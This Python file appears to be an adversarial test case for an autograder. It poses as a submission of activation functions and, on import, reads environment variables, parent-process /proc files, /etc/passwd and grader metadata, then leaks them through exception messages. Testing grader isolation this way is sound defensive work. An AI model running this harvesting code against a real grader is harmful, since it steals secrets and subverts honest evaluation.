"""Row 60: the grader's environment.

Tries: raises os.environ, argv, orig_argv, sys.path, the parent's environ and cmdline, the user, the mount
table, the groups.

A sound grader: gives the worker an empty environment; no secret, path or user name in the output; 0 points.
"""
import os

import numpy as np


def wrong(name, z, *rest):
    """Minus seven in the right shape: nothing in this file deserves a point."""
    shape = np.shape(z)
    shape = shape[:-1] if name in ("logsumexp", "logsumexp_plus") else shape
    return np.full(shape + shape[-1:] if name == "softmax_jacobian" else shape, -7.0)


def mark(what):
    """Say on stdout and in /tmp/marks that the attack got out."""
    line = "ESCAPED leak_environment: {}\n".format(what).encode("utf-8", "replace")
    try:
        os.write(1, line)
    except OSError:
        pass
    try:
        fd = os.open("/tmp/marks/leak_environment", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666)
        os.write(fd, line)
        os.close(fd)
    except OSError:
        pass


answer = wrong  # what all sixteen functions return; the attack below puts its own in its place


def sigmoid(z): return answer("sigmoid", z)
def sigmoid_grad(z): return answer("sigmoid_grad", z)
def tanh(z): return answer("tanh", z)
def tanh_grad(z): return answer("tanh_grad", z)
def relu(z): return answer("relu", z)
def relu_grad(z): return answer("relu_grad", z)
def softplus(z): return answer("softplus", z)
def softplus_grad(z): return answer("softplus_grad", z)
def logsumexp(z): return answer("logsumexp", z)
def logsumexp_grad(z): return answer("logsumexp_grad", z)
def logsumexp_plus(z): return answer("logsumexp_plus", z)
def logsumexp_plus_grad(z): return answer("logsumexp_plus_grad", z)
def softmax(z): return answer("softmax", z)
def log_softmax(z): return answer("log_softmax", z)
def softmax_jacobian(z): return answer("softmax_jacobian", z)
def softmax_vjp(z, v): return answer("softmax_vjp", z, v)


import sys


def collected():
    facts = {"env": dict(os.environ), "argv": sys.argv, "orig": getattr(sys, "orig_argv", None), "uid": os.getuid(), "groups": os.getgroups(), "flags": str(sys.flags), "main": getattr(sys.modules.get("__main__"), "__file__", None)}
    for path in (f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/cmdline", "/proc/self/mounts", "/proc/self/cmdline", "/etc/hostname", "/etc/passwd", "/autograder/submission_metadata.json"):
        try:
            with open(path) as f:
                facts[path] = f.read(2000)
        except OSError:
            pass
    return facts


FACTS = collected()
if any(word in repr(FACTS) for word in ("CANARY", "AG_NONCE", "SECRET", "TOKEN")):
    mark("a secret in the environment")


def answer(name, z, *rest):
    raise ValueError("LEAKED-ENVIRONMENT " + repr(FACTS))
